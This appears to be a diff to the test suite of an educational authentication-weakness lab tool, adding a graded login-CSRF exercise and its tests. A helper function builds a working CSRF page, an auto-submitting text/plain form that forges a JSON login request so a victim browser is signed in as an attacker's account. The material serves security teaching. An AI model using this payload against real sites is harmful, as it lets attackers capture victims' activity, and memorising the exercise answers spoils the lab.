@@ -346,7 +346,7 @@ def test_ctrl_c_stops_the_servers_and_says_so(tmp_path):
 
 def test_bad_options_get_one_line(tmp_path, monkeypatch):
     monkeypatch.setenv("AUTHCLI_HOME", str(tmp_path))
-    for args, said in [(["login-csrf", "--exercise"], "login-csrf has no exercise yet"),
+    for args, said in [(["nosuch", "--exercise"], "unknown weakness nosuch"),  # every lab has an exercise
                        (["--exercise"], "--exercise takes one lab"),
                        (["alg-none", "--hint", "9"], "alg-none has 4 hints"),
                        (["alg-none", "--hint", "x"], "--hint takes a number"),
@@ -426,7 +426,7 @@ def test_the_list_marks_exactly_the_labs_with_an_exercise():
     marked = {line.split()[0] for line in listed if line.split()[2] == "exercise"}
     assert marked == set(EXERCISES) == set(LABS + SESSION_LABS + ["jku-header", "no-rate-limit", "user-enum", "fixation",
                                                                  "alg-confusion-no-key", "no-pkce", "redirect-prefix",
-                                                                 "no-httponly"])
+                                                                 "no-httponly", "login-csrf"])
     for exercise in EXERCISES.values():  # graded: each hint says more; every fact cites a source
         assert len(exercise.hints) >= 3 and any("[^" in h for h in exercise.hints)
 
@@ -753,3 +753,42 @@ def test_no_httponly_without_chromium_says_so_in_one_line(tmp_path):
                           capture_output=True, text=True, timeout=30, stdin=subprocess.DEVNULL)
     assert done.returncode == 2 and done.stdout == ""
     assert done.stderr.count("\n") == 1 and done.stderr.startswith("error: ") and "hromium" in done.stderr
+
+
+# login-csrf: user 1's Chromium opens the student's page at another site; it counts when that
+# page's form logged user 1 in to eve's account on the weak server.
+
+def csrf_page(url: str, email: str = "eve@example.com", password: str = "eve") -> str:
+    """Hints 3 and 4's page.html: a text/plain form whose one field makes a JSON body."""
+    name = json.dumps({"email": email, "password": password, "pad": ""})[:-2]
+    return (f"<form method=POST action='{url}/login' enctype='text/plain'><input name='{name}' value='\"}}'>"
+            "</form><script>document.forms[0].submit()</script>")
+
+
+def test_a_student_logs_user_1_in_as_eve_from_another_site(tmp_path):
+    from conftest import require_browser
+
+    require_browser()
+    with Exercise("login-csrf", tmp_path, timeout=40) as run:
+        answer = requests.post(run.url + "/victim", json={"page": csrf_page(run.url)}, timeout=10)
+        assert answer.status_code == 202
+        code, out = run.finish()
+    assert code == 0, out
+    assert "solved: login-csrf" in out and "Origin: http://attacker.example" in out
+    assert "The same request to the hardened server" in out and "\n  403 " in out
+
+
+def test_a_page_that_does_not_log_user_1_in_as_eve_is_not_accepted(tmp_path):
+    from conftest import require_browser
+
+    require_browser()
+    with Exercise("login-csrf", tmp_path, timeout=40) as run:
+        for page in ("<p>hello</p>", csrf_page(run.url, password="wrong")):
+            assert requests.post(run.url + "/victim", json={"page": page}, timeout=10).status_code == 202
+            run.until("user 1 opened your page")
+        mine = requests.post(run.url + "/login", json=EVE, timeout=10)  # eve logging in herself
+        assert mine.ok and requests.get(run.url + "/collect", timeout=10).status_code == 404
+        assert requests.post(run.url + "/victim", json={"script": "x"}, timeout=10).status_code == 400
+        run.type("q")
+        code, out = run.finish()
+    assert code == 1 and "solved:" not in out and "Traceback" not in out
